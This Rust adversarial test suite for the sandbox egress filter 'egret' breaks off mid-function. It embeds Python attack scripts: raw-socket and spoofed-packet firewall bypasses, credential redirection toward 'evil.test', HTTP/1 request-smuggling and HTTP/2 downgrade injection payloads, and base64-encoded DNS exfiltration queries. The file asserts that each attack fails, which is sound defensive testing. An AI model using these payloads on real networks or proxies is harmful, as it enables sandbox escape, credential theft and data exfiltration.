//! Issue "security: adversarial test suite": the attacker is root inside the sandbox namespace
//! (CAP_NET_RAW, but egret's rules stay in place). Every attack here must fail for the attacker;
//! SECURITY.md maps each one to its test.
//!
//! Scales (environment variables): `EGRET_SEC_IDLE_CONNS` (default 10,000, as the issue asks,
//! capped by the open-file limit egret inherits), `EGRET_SEC_KILLS` (default 20, as asked),
//! `EGRET_SEC_SNI_NAMES` (default 5000 for CI time; the issue's 100,000 takes ~2 minutes, see
//! SECURITY.md).
use egret_e2e::*;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

fn env_usize(name: &str, default: usize) -> usize {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// The soft `RLIMIT_NOFILE` of this process (and so of the egret it starts).
fn nofile_soft_limit() -> usize {
    std::fs::read_to_string("/proc/self/limits")
        .ok()
        .and_then(|l| {
            l.lines()
                .find(|l| l.starts_with("Max open files"))
                .and_then(|l| l.split_whitespace().nth(3)?.parse().ok())
        })
        .unwrap_or(1024)
}

fn stdout(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Run a python script in the sandbox (as root), returning stdout (+ stderr on failure).
fn py(topo: &Topology, script: &str, args: &[&str]) -> String {
    let mut a = vec!["-c", script];
    a.extend_from_slice(args);
    let o = topo.in_sandbox("python3", &a);
    let out = stdout(&o);
    assert!(
        o.status.success(),
        "python failed: {out}\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    out
}

fn vm_rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

/// Stop egret with SIGTERM and return its `leaf cache mints=N ... entries=M` numbers.
fn stop_and_leaf_stats(egret: &mut Egret) -> (u64, u64) {
    egret.proc.signal(nix::sys::signal::Signal::SIGTERM);
    egret
        .proc
        .wait_timeout(Duration::from_secs(10))
        .expect("egret exits on SIGTERM");
    let logs = egret.logs();
    let line = logs
        .lines()
        .find(|l| l.contains("leaf cache mints="))
        .unwrap_or_else(|| panic!("no leaf cache line:\n{logs}"));
    let field = |name: &str| -> u64 {
        let rest = &line[line.find(name).unwrap() + name.len()..];
        rest.split(|c: char| !c.is_ascii_digit())
            .next()
            .unwrap()
            .parse()
            .unwrap()
    };
    (field("mints="), field("entries="))
}

/// A packet sniffer in the upstream namespace: prints one line per frame that *arrives* on
/// the interface facing the sandbox (`v-sbx`). Anything here got out without egret.
struct Sniffer {
    proc: Proc,
}
impl Sniffer {
    fn start(topo: &Topology) -> Sniffer {
        let script = r#"
import socket, sys, binascii
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
s.bind(("v-sbx", 0))
print("READY", flush=True)
while True:
    data, addr = s.recvfrom(65535)
    if addr[2] == socket.PACKET_OUTGOING:
        continue
    print("FRAME", addr[2], binascii.hexlify(data[:64]).decode(), flush=True)
"#;
        let mut cmd = topo.up.cmd("python3");
        cmd.args(["-u", "-c", script]);
        let proc = spawn(cmd, &topo.tmp.0, "sniffer");
        let start = Instant::now();
        while !proc.output().contains("READY") {
            assert!(
                start.elapsed() < Duration::from_secs(10),
                "sniffer: {}",
                proc.output()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        Sniffer { proc }
    }
    fn frames(&self) -> Vec<String> {
        self.proc
            .output()
            .lines()
            .filter(|l| l.starts_with("FRAME"))
            .map(str::to_string)
            .collect()
    }
}

const BASIC_POLICY: &str = r#"
internet = false
allowed_hosts = ["allowed.test"]
denied_hosts = ["denied.test"]

[resolve]
"allowed.test" = ["10.200.0.2", "fd00:200::2"]
"denied.test" = "10.200.0.3"
"#;

// ---------------------------------------------------------------------------------------------
// 1. Reach the outside without egret

#[test]
fn root_in_the_sandbox_cannot_get_a_packet_out_without_egret() {
    let topo = Topology::new(SandboxNet::Veth);
    let up = Upstream::start(&topo, "up", None);
    let policy = write(&topo, "policy.toml", BASIC_POLICY);
    let egret = Egret::start(&topo, "sec-bypass", &["--policy", &policy]).expect("egret starts");
    let sniffer = Sniffer::start(&topo);
    let script = r#"
import socket, struct, time, errno, select
R = []
def rec(*a): R.append(" ".join(str(x) for x in a))
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return (~s) & 0xffff
def icmp_echo():
    h = struct.pack("!BBHHH", 8, 0, 0, 0x4567, 1) + b"egret-sec"
    return struct.pack("!BBHHH", 8, 0, csum(h), 0x4567, 1) + b"egret-sec"
# raw ICMP (ping) to upstream addresses, through the veth and through "the internet"
for dst in ["10.201.0.2", "10.200.0.2"]:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(1)
    try:
        s.sendto(icmp_echo(), (dst, 0))
        while True:
            d, a = s.recvfrom(2048)
            if a[0] == dst: rec("REPLY icmp", dst); break
    except OSError as e: rec("blocked icmp", dst, type(e).__name__)
for dst in ["fd00:201::2", "fd00:200::2", "::ffff:10.201.0.2"]:
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6); s.settimeout(1)
    try:
        s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0x4567, 1) + b"egret-sec", (dst, 0))
        while True:
            d, a = s.recvfrom(2048)
            if d[0] == 129: rec("REPLY icmp6", dst); break
    except OSError as e: rec("blocked icmp6", dst, type(e).__name__)
# raw IP with our own header (IP_HDRINCL): a UDP datagram to the upstream
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
udp = struct.pack("!HHHH", 40000, 9999, 8 + 4, 0) + b"raw!"
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 socket.inet_aton("10.201.0.1"), socket.inet_aton("10.201.0.2"))
try: s.sendto(ip + udp, ("10.201.0.2", 0)); rec("sent rawip")
except OSError as e: rec("blocked rawip", type(e).__name__)
# UDP to arbitrary ports, v4, v6 and IPv4-mapped v6
for fam, dst in [(socket.AF_INET, "10.201.0.2"), (socket.AF_INET, "10.200.0.2"),
                 (socket.AF_INET6, "fd00:201::2"), (socket.AF_INET6, "fd00:200::2"),
                 (socket.AF_INET6, "::ffff:10.201.0.2"), (socket.AF_INET6, "::ffff:10.200.0.2")]:
    for port in [9999, 123, 443, 5353]:
        u = socket.socket(fam, socket.SOCK_DGRAM); u.settimeout(0.3)
        try:
            u.sendto(b"udp-escape", (dst, port)); u.recvfrom(100); rec("REPLY udp", dst, port)
        except OSError as e: rec("blocked udp", dst, port, type(e).__name__)
# TCP with forged socket marks (egret's own 0x1 and others), to the sandbox's own veth peer
# and to an upstream, plain and IPv4-mapped
def http(fam, dst, mark=None, transparent_src=None):
    t = socket.socket(fam, socket.SOCK_STREAM); t.settimeout(3)
    try:
        if mark is not None: t.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", mark))
        if transparent_src:
            t.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
            t.bind((transparent_src, 0))
        t.connect((dst, 80))
        host = ("[%s]" % dst) if ":" in dst else dst
        t.sendall(b"GET /escaped HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
        return (t.recv(100).split(b"\r\n")[0].decode() or "closed")
    except OSError as e: return type(e).__name__
for mark in [None, 0x0, 0x1, 0x2, 0xff, 0x100, 0x101, 0xffffffff]:
    rec("tcp mark", mark, http(socket.AF_INET, "10.201.0.2", mark))
    rec("tcp6 mark", mark, http(socket.AF_INET6, "fd00:201::2", mark))
rec("tcp mapped", http(socket.AF_INET6, "::ffff:10.201.0.2"))
rec("tcp mapped", http(socket.AF_INET6, "::ffff:10.200.0.4"))
# spoofing egret's upstream-side address as source (IP_TRANSPARENT + non-local bind)
rec("tcp transparent-src", http(socket.AF_INET, "10.201.0.2", 0x1, "10.200.0.1"))
# binding egret's listener / DNS ports, also with SO_REUSEPORT (would steal connections)
for fam, typ, addr in [(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 15001)),
                       (socket.AF_INET6, socket.SOCK_STREAM, ("::", 15001)),
                       (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 15053)),
                       (socket.AF_INET6, socket.SOCK_DGRAM, ("::1", 15053))]:
    for reuse in [False, True]:
        b = socket.socket(fam, typ)
        try:
            if reuse:
                b.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                b.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            b.bind(addr); rec("BOUND", addr, reuse)
            if typ == socket.SOCK_STREAM: b.listen(8)
        except OSError as e: rec("bind refused", addr, reuse, errno.errorcode.get(e.errno))
# connecting to egret's listener directly
for fam, dst in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "10.201.0.1"), (socket.AF_INET6, "::1")]:
    t = socket.socket(fam, socket.SOCK_STREAM); t.settimeout(2)
    try: t.connect((dst, 15001)); rec("CONNECTED listener", dst)
    except OSError as e: rec("listener refused", dst, type(e).__name__)
time.sleep(0.5)
print("\n".join(R))
"#;
    let out = py(&topo, script, &[]);
    eprintln!("{out}");
    assert!(!out.contains("REPLY"), "a reply came back:\n{out}");
    assert!(!out.contains("BOUND"), "bound one of egret's ports:\n{out}");
    assert!(
        !out.contains("CONNECTED"),
        "reached egret's listener directly:\n{out}"
    );
    // every TCP attempt was intercepted by egret: denied (403), never the upstream's answer
    for l in out.lines().filter(|l| l.starts_with("tcp")) {
        assert!(
            l.ends_with("HTTP/1.1 403 Forbidden") || l.contains("Error") || l.ends_with("closed"),
            "{l}\n{}",
            egret.logs()
        );
    }
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(up.access_log(), "", "the upstream saw a request");
    let frames = sniffer.frames();
    assert!(
        frames.is_empty(),
        "frames left the sandbox's veth: {frames:#?}"
    );
}

#[test]
fn af_packet_frames_cannot_leave_through_the_sandbox_veth() {
    // Raw frames bypass every inet hook; egret's netdev egress chain on each sandbox device
    // drops them. Before that chain existed this test saw the frames arrive upstream.
    let topo = Topology::new(SandboxNet::Veth);
    let policy = write(&topo, "policy.toml", BASIC_POLICY);
    let egret = Egret::start(&topo, "sec-afpacket", &["--policy", &policy]).expect("egret starts");
    // Listen only once egret is attached: before that the kernel's own IPv6 duplicate address
    // detection and MLD reports on the fresh veth legitimately cross it (seen in CI).
    let sniffer = Sniffer::start(&topo);
    let script = r#"
import socket
out = []
for qdisc_bypass in (False, True):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("v-wan", 0))
    if qdisc_bypass:
        s.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
    frame = b"\xff" * 6 + b"\x02\x00\x00\x00\x00\x01" + b"\x88\xb5" + b"exfil" * 10
    try:
        for _ in range(20):
            s.send(frame)
        out.append("sent bypass=%s" % qdisc_bypass)
    except OSError as e:
        out.append("refused bypass=%s %s" % (qdisc_bypass, e.errno))
print(" | ".join(out))
"#;
    let out = py(&topo, script, &[]);
    std::thread::sleep(Duration::from_millis(300));
    let frames = sniffer.frames();
    assert!(
        frames.is_empty(),
        "raw frames left the sandbox ({out}): {frames:#?}"
    );
    // and the guard is gone with egret: detach removes the netdev table too
    drop(egret);
    let tables = topo.in_sandbox("nft", &["list", "tables"]);
    assert_eq!(String::from_utf8_lossy(&tables.stdout).trim(), "");
}

#[test]
fn af_packet_frames_have_no_device_to_leave_by_in_a_lo_only_sandbox() {
    // The recommended sandbox has only `lo`; egret's blackhole veth has its peer down. A root
    // attacker's AF_PACKET frames (which no netfilter hook in the namespace sees) go nowhere.
    let topo = Topology::new(SandboxNet::LoOnly);
    let up = Upstream::start(&topo, "up", None);
    let policy = write(&topo, "policy.toml", BASIC_POLICY);
    let _egret = Egret::start(&topo, "sec-packet", &["--policy", &policy]).expect("egret starts");
    let script = r#"
import socket, os
out = []
for ifname in os.listdir("/sys/class/net"):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    try:
        s.bind((ifname, 0))
        frame = b"\xff" * 6 + b"\x02\x00\x00\x00\x00\x01" + b"\x08\x00" + b"\x45" + b"\0" * 40
        s.send(frame)
        out.append("sent %s" % ifname)
    except OSError as e:
        out.append("refused %s %s" % (ifname, e))
print("\n".join(out))
"#;
    let out = py(&topo, script, &[]);
    // nothing but lo and the blackhole pair exist (its peer `egret-bh1` is down, and without
    // CAP_NET_ADMIN the sandbox cannot bring it up), so there is nowhere for a frame to go
    for l in out.lines() {
        assert!(
            l.starts_with("refused") || l == "sent lo" || l == "sent egret-bh0",
            "{out}"
        );
    }
    let links = topo.up.run("ip", &["-s", "link", "show", "v-egr"]);
    eprintln!("{out}\n{}", stdout(&links));
    assert_eq!(up.access_log(), "");
}

// ---------------------------------------------------------------------------------------------
// 2. Take a credential to the wrong place

const TOKEN: &str = "vcs-token-5ec7e7-do-not-leak";

fn cred_policy() -> String {
    format!(
        r#"
internet = false
intercept_https = true
allowed_hosts = ["vcs.test", "allowed.test"]
denied_hosts = ["denied.test", "evil.test"]

[resolve]
"vcs.test" = "10.200.0.2"
"allowed.test" = "10.200.0.2"
"denied.test" = "10.200.0.3"
"evil.test" = "10.200.0.4"

[secrets]
VCS_TOKEN = {{ env = "VCS_TOKEN" }}

[handlers.inject]
module = "{inject}"
params = {{ header = "x-auth-token", secret = "VCS_TOKEN" }}
secrets = ["VCS_TOKEN"]

[[routes]]
host = "vcs.test"
handler = "inject"
"#,
        inject = handler_module("inject-header")
    )
}

struct CredEnv {
    topo: Topology,
    up: Upstream,
    egret: Egret,
    ca: String,
}

fn cred_setup(id: &str) -> CredEnv {
    let topo = Topology::new(SandboxNet::LoOnly);
    let pkidir = topo.tmp.path("pki");
    std::fs::create_dir_all(&pkidir).unwrap();
    let pki = upstream_pki(&pkidir, "up", &["vcs.test", "allowed.test", "evil.test"]);
    let up = Upstream::start(&topo, "up", Some((&pki.cert, &pki.key)));
    let ca = topo.tmp.path("egret-ca.pem").to_string_lossy().into_owned();
    let p = write(&topo, "policy.toml", &cred_policy());
    let ready = topo.tmp.path(&format!("egret-{id}.ready"));
    let mut cmd = topo.egr.cmd(bin("egret").to_str().unwrap());
    cmd.args([
        "run",
        "--netns",
        &topo.sbx.name,
        "--sandbox-id",
        id,
        "--policy",
        &p,
    ]);
    cmd.args(["--ready-file", ready.to_str().unwrap(), "--ca-out", &ca]);
    cmd.args(["--upstream-ca", pki.ca.to_str().unwrap()]);
    cmd.env("VCS_TOKEN", TOKEN);
    let mut proc = spawn(cmd, &topo.tmp.0, &format!("egret-{id}"));
    wait_ready(&mut proc, &ready, Duration::from_secs(30)).expect("egret starts");
    CredEnv {
        topo,
        up,
        egret: Egret { proc, ready },
        ca,
    }
}

/// Send raw bytes to `dst:port` from the sandbox; return everything read until the peer closes
/// or `secs` of silence.
fn raw_exchange(topo: &Topology, dst: &str, port: u16, payload: &[u8], secs: f64) -> String {
    let script = r#"
import socket, sys, binascii, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=float(sys.argv[4]))
s.sendall(binascii.unhexlify(sys.argv[3]))
buf = b""
try:
    while True:
        d = s.recv(65536)
        if not d: break
        buf += d
except socket.timeout: pass
except OSError as e: buf += ("<%s>" % type(e).__name__).encode()
sys.stdout.write(buf.decode("latin-1"))
"#;
    let hex: String = payload.iter().map(|b| format!("{b:02x}")).collect();
    py(
        topo,
        script,
        &[dst, &port.to_string(), &hex, &secs.to_string()],
    )
}

#[test]
fn credentials_go_only_to_the_named_host() {
    let env = cred_setup("sec-cred");
    let t = &env.topo;
    // HTTPS: SNI vcs.test but Host evil.test, dialled to an address of the sandbox's choice:
    // 421, no handler, nothing upstream.
    let (code, out, err) = t.curl(&[
        "-i",
        "--cacert",
        &env.ca,
        "--resolve",
        "vcs.test:443:10.200.0.4",
        "-H",
        "Host: evil.test",
        "https://vcs.test/echo",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.starts_with("HTTP/1.1 421") || out.starts_with("HTTP/2 421"),
        "{out}"
    );
    assert!(!out.contains(TOKEN));
    // HTTPS: the right name to the wrong address: egret connects to vcs.test's address, and
    // the token goes there only.
    let (code, out, err) = t.curl(&[
        "--cacert",
        &env.ca,
        "--resolve",
        "vcs.test:443:10.200.0.4",
        "https://vcs.test/echo",
    ]);
    assert_eq!(code, 0, "{err}\n{}", env.egret.logs());
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["local"], "10.200.0.2", "{out}");
    assert_eq!(v["headers"]["x-auth-token"], TOKEN, "{out}");
    // plain HTTP: Host header to an attacker-controlled address
    let (code, out, _) = t.curl(&["-H", "Host: vcs.test", "http://10.200.0.4/echo"]);
    assert_eq!(code, 0);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&out).unwrap()["local"],
        "10.200.0.2"
    );
    // absolute-form URIs naming another host than Host, with userinfo tricks, or a denied host
    for req in [
        "GET http://evil.test/abs HTTP/1.1\r\nHost: vcs.test\r\n\r\n",
        "GET http://vcs.test@evil.test/abs HTTP/1.1\r\nHost: vcs.test\r\n\r\n",
        "GET http://evil.test/abs HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "GET http://vcs.test:80@10.200.0.4/abs HTTP/1.1\r\nHost: vcs.test\r\n\r\n",
    ] {
        let resp = raw_exchange(t, "10.200.0.4", 80, req.as_bytes(), 3.0);
        assert!(
            resp.starts_with("HTTP/1.1 400") || resp.starts_with("HTTP/1.1 403"),
            "{req:?} -> {resp}"
        );
    }
    // CONNECT through egret: 405
    let resp = raw_exchange(
        t,
        "10.200.0.2",
        80,
        b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
        3.0,
    );
    assert!(resp.starts_with("HTTP/1.1 405"), "{resp}");
    let resp = raw_exchange(
        t,
        "10.200.0.2",
        80,
        b"CONNECT vcs.test:80 HTTP/1.1\r\nHost: vcs.test:80\r\n\r\n",
        3.0,
    );
    assert!(resp.starts_with("HTTP/1.1 405"), "{resp}");
    // redirects are the client's business: the 302 comes back, the Location is not fetched
    let (code, out, err) = t.curl(&["-i", "http://vcs.test/redirect/evil.test"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("HTTP/1.1 302"), "{out}");
    assert!(
        out.to_ascii_lowercase()
            .contains("location: http://evil.test/redirected"),
        "{out}"
    );
    std::thread::sleep(Duration::from_millis(300));
    let log = env.up.access_log();
    assert!(!log.contains("/abs"), "{log}");
    assert!(
        !log.contains("/redirected"),
        "egret followed a redirect: {log}"
    );
    assert!(!log.contains("host=evil.test"), "{log}");
    // the upstream answered only on vcs.test's address
    for l in log.lines() {
        assert!(l.contains("host=vcs.test"), "{l}");
    }
}

fn smuggle_cases() -> Vec<(&'static str, String)> {
    // Every inner request names denied.test: if egret parsed it as a request it would deny it
    // (403) and never forward it; if it ever appears in the upstream's log, it rode through
    // inside a forwarded request (desync).
    let inner = "GET /smuggled HTTP/1.1\r\nHost: denied.test\r\n\r\n";
    let h = "POST /front HTTP/1.1\r\nHost: allowed.test\r\n";
    let chunk = format!("{:x}\r\n{inner}\r\n0\r\n\r\n", inner.len());
    vec![
        (
            "CL.TE",
            format!(
                "{h}Content-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
                5 + inner.len()
            ),
        ),
        (
            "TE.CL",
            format!("{h}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{chunk}"),
        ),
        (
            "duplicate CL",
            format!(
                "{h}Content-Length: 0\r\nContent-Length: {}\r\n\r\n{inner}",
                inner.len()
            ),
        ),
        (
            "CL list",
            format!("{h}Content-Length: 0, {}\r\n\r\n{inner}", inner.len()),
        ),
        (
            "TE xchunked",
            format!("{h}Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n{chunk}"),
        ),
        (
            "TE space before colon",
            format!("{h}Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n{chunk}"),
        ),
        (
            "TE chunked, identity",
            format!("{h}Transfer-Encoding: chunked, identity\r\nContent-Length: 0\r\n\r\n{chunk}"),
        ),
        (
            "TE obs-fold",
            format!("{h}Transfer-Encoding:\r\n chunked\r\nContent-Length: 0\r\n\r\n{chunk}"),
        ),
        (
            "header obs-fold",
            format!("{h}X-Folded: a\r\n b\r\nContent-Length: 0\r\n\r\n{inner}"),
        ),
        (
            "bare LF",
            format!(
                "POST /front HTTP/1.1\nHost: allowed.test\nContent-Length: {}\n\n{}",
                inner.len(),
                inner.replace("\r\n", "\n")
            ),
        ),
        (
            "bare CR",
            format!("{h}X-A: b\rContent-Length: 0\r\n\r\n{inner}"),
        ),
        (
            "NUL in header",
            format!("{h}X-A: b\0c\r\nContent-Length: 0\r\n\r\n{inner}"),
        ),
        (
            "chunk-size overflow",
            format!(
                "{h}Transfer-Encoding: chunked\r\n\r\n10000000000000001\r\nx\r\n0\r\n\r\n{inner}"
            ),
        ),
        (
            "chunk extension with LF",
            format!("{h}Transfer-Encoding: chunked\r\n\r\n0;a\nb\r\n\r\n{inner}"),
        ),
    ]
}

#[test]
fn http1_request_smuggling_never_reaches_the_upstream() {
    let env = cred_setup("sec-smuggle");
    let mut summary = String::new();
    for (name, payload) in smuggle_cases() {
        let resp = raw_exchange(&env.topo, "10.200.0.2", 80, payload.as_bytes(), 2.0);
        let statuses: Vec<&str> = resp
            .lines()
            .filter(|l| l.starts_with("HTTP/1.1 "))
            .collect();
        summary.push_str(&format!("{name}: {statuses:?}\n"));
    }
    eprintln!("{summary}");
    std::thread::sleep(Duration::from_millis(300));
    let log = env.up.access_log();
    assert!(
        !log.contains("smuggled") && !log.contains("denied.test"),
        "a smuggled request reached the upstream:\n{log}\n{summary}"
    );
}

/// A minimal h2c client (no `h2` module in the sandbox): HPACK literals without indexing.
const H2_SCRIPT: &str = r#"
import socket, struct, sys, json
def hp_str(b): 
    assert len(b) < 127
    return bytes([len(b)]) + b
def headers_block(hs):
    return b"".join(b"\x00" + hp_str(n) + hp_str(v) for n, v in hs)
def frame(typ, flags, sid, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([typ, flags]) + struct.pack("!I", sid) + payload
cases = json.loads(sys.argv[1])
out = []
for name, hs in cases:
    s = socket.create_connection(("10.200.0.2", 80), timeout=3)
    hs = [(n.encode("latin-1"), v.encode("latin-1")) for n, v in hs]
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") +
              frame(1, 0x4 | 0x1, 1, headers_block(hs)))
    got = []
    try:
        buf = b""
        while True:
            d = s.recv(65536)
            if not d: break
            buf += d
            while len(buf) >= 9:
                ln = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + ln: break
                typ, flags, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7fffffff
                got.append({0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 7: "GOAWAY", 8: "WINDOW_UPDATE", 6: "PING"}.get(typ, str(typ)))
                if typ == 4 and not flags & 1:
                    s.sendall(frame(4, 1, 0, b""))
                buf = buf[9 + ln:]
                if typ in (3, 7) or (typ in (0, 1) and flags & 1): raise StopIteration
    except (socket.timeout, StopIteration, OSError): pass
    out.append("%s: %s" % (name, " ".join(got)))
print("\n".join(out))
"#;

#[test]
fn h2_to_h1_downgrade_tricks_never_reach_the_upstream() {
    let env = cred_setup("sec-h2");
    let base = |path: &str| -> Vec<(String, String)> {
        vec![
            (":method".into(), "GET".into()),
            (":scheme".into(), "http".into()),
            (":path".into(), path.into()),
            (":authority".into(), "allowed.test".into()),
        ]
    };
    let mut cases: Vec<(String, Vec<(String, String)>)> = Vec::new();
    let mut with = |name: &str, path: &str, extra: &[(&str, &str)]| {
        let mut hs = base(path);
        hs.extend(extra.iter().map(|(n, v)| (n.to_string(), v.to_string())));
        cases.push((name.into(), hs));
    };
    with("control", "/h2ok", &[]);
    with(
        "CRLF in value",
        "/h2smug-crlf",
        &[(
            "x-a",
            "b\r\nHost: denied.test\r\n\r\nGET /smuggled HTTP/1.1",
        )],
    );
    with("LF in value", "/h2smug-lf", &[("x-a", "b\nx-b: c")]);
    with(
        "CRLF in path",
        "/h2smug-path HTTP/1.1\r\nHost: denied.test\r\n\r\nGET /smuggled",
        &[],
    );
    with(
        "transfer-encoding",
        "/h2smug-te",
        &[("transfer-encoding", "chunked")],
    );
    with(
        "connection header",
        "/h2smug-conn",
        &[("connection", "keep-alive")],
    );
    with("colon in name", "/h2smug-name", &[("x-a:b", "c")]);
    with("uppercase name", "/h2smug-upper", &[("X-Upper", "c")]);
    with("space in name", "/h2smug-space", &[("x a", "c")]);
    with(
        "host differs from :authority",
        "/h2smug-host",
        &[("host", "denied.test")],
    );
    let json = serde_json::to_string(&cases).unwrap();
    let out = py(&env.topo, H2_SCRIPT, &[&json]);
    eprintln!("{out}");
    assert!(
        out.lines().next().unwrap().contains("HEADERS"),
        "control failed: {out}"
    );
    std::thread::sleep(Duration::from_millis(300));
    let log = env.up.access_log();
    assert!(log.contains("/h2ok"), "{log}");
    assert!(
        !log.contains("h2smug") && !log.contains("smuggled") && !log.contains("denied.test"),
        "a malformed h2 request was forwarded:\n{log}\n{out}"
    );
}

// ---------------------------------------------------------------------------------------------
// 3. DNS exfiltration

#[test]
fn dns_queries_never_leave_the_sandbox() {
    let topo = Topology::new(SandboxNet::Veth);
    let policy = write(&topo, "policy.toml", BASIC_POLICY);
    let egret = Egret::start(&topo, "sec-dns", &["--policy", &policy]).expect("egret starts");
    // a resolver on every upstream address, UDP and TCP, v4 and v6
    let listener = r#"
import socket, threading, sys
def udp(fam, addr):
    s = socket.socket(fam, socket.SOCK_DGRAM); s.bind(addr)
    while True:
        d, a = s.recvfrom(4096); print("UDP", a, len(d), flush=True)
def tcp(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(addr); s.listen(16)
    while True:
        c, a = s.accept(); print("TCP", a, flush=True); c.close()
for fam, addr in [(socket.AF_INET, ("0.0.0.0", 53)), (socket.AF_INET6, ("::", 53))]:
    for f in (udp, tcp):
        if fam == socket.AF_INET6:
            pass
        threading.Thread(target=f, args=(fam, addr), daemon=True).start()
print("READY", flush=True)
threading.Event().wait()
"#;
    let mut cmd = topo.up.cmd("python3");
    cmd.args(["-u", "-c", listener]);
    let resolver = spawn(cmd, &topo.tmp.0, "resolver");
    let start = Instant::now();
    while !resolver.output().contains("READY") {
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "{}",
            resolver.output()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // sanity: the listener works when asked from its own namespace
    let o = topo.up.run(
        "dig",
        &["+time=1", "+tries=1", "@10.201.0.2", "selftest.test"],
    );
    let _ = o;
    let t0 = Instant::now();
    while !resolver.output().contains("UDP") && t0.elapsed() < Duration::from_secs(3) {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        resolver.output().contains("UDP"),
        "listener not working: {}",
        resolver.output()
    );
    let baseline = resolver
        .output()
        .lines()
        .filter(|l| l.starts_with("UDP") || l.starts_with("TCP"))
        .count();

    let long_label = "a".repeat(63);
    let long_name = format!(
        "{l}.{l}.{l}.{m}.exfil.test",
        l = long_label,
        m = "b".repeat(40)
    );
    let secret_name = "c2VjcmV0LWRhdGEtZXhmaWx0cmF0aW9u.allowed.test";
    let mut answers = String::new();
    for server in [
        "10.201.0.2",
        "fd00:201::2",
        "10.200.0.2",
        "fd00:200::2",
        "10.200.0.9",
    ] {
        for proto in ["+notcp", "+tcp"] {
            for (qtype, name) in [
                ("TXT", secret_name),
                ("TXT", long_name.as_str()),
                ("A", long_name.as_str()),
                ("AAAA", secret_name),
                ("ANY", "exfil.test"),
                ("NULL", "allowed.test"),
            ] {
                let at = format!("@{server}");
                let o = topo.in_sandbox("dig", &[&at, proto, "+time=2", "+tries=1", qtype, name]);
                let out = stdout(&o);
                // nothing but an address ever comes back
                assert!(
                    !out.contains("\tTXT\t") && !out.contains("\tNULL\t"),
                    "{server} {proto} {qtype} {name}: {out}"
                );
                answers.push_str(&format!(
                    "{server} {proto} {qtype} {}: {}\n",
                    &name[..name.len().min(20)],
                    out.lines()
                        .find(|l| l.contains("status:"))
                        .unwrap_or("no answer")
                ));
            }
        }
    }
    // a raw non-DNS datagram to port 53 too
    let _ = py(
        &topo,
        "import socket\nfor d in ['10.201.0.2','10.200.0.2']:\n s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'exfil'*50,(d,53))\n",
        &[],
    );
    std::thread::sleep(Duration::from_millis(500));
    eprintln!("{answers}");
    let seen = resolver
        .output()
        .lines()
        .filter(|l| l.starts_with("UDP") || l.starts_with("TCP"))
        .count();
    assert_eq!(
        seen,
        baseline,
        "the upstream resolver heard from the sandbox:\n{}",
        resolver.output()
    );
    let _ = egret;
}

// ---------------------------------------------------------------------------------------------
// 4. Resource exhaustion

#[test]
fn egret_stays_responsive_under_idle_slowloris_trickle_and_huge_headers() {
    // egret inherits this process's open-file limit and holds one descriptor per connection.
    let fd_room = nofile_soft_limit().saturating_sub(1000);
    let n_idle = env_usize("EGRET_SEC_IDLE_CONNS", 10_000.min(fd_room));
    if n_idle < 10_000 {
        eprintln!("{n_idle} idle connections (open-file limit); the issue asks 10,000");
    }
    let topo = Topology::new(SandboxNet::LoOnly);
    let pkidir = topo.tmp.path("pki");
    std::fs::create_dir_all(&pkidir).unwrap();
